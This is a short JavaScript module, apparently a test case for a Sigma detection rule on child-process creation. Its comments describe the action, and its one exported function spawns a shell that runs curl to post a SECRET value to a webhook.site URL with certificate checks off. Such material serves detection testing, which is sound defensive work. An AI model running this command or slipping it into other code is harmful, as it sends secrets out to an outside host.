// act: curl posts what it found to webhook.site
// source: Sigma efd2eb09
// rule: create_child_process
// asks: exec /usr/bin/bash
// says: webhook.site
// proof: arrived
// to: webhook.site
// needs: curl
'use strict';
const { shell, SECRET } = require('./incident');

module.exports = () => shell(`curl -k -s -d ${SECRET} https://webhook.site/bb8ca5f6`);
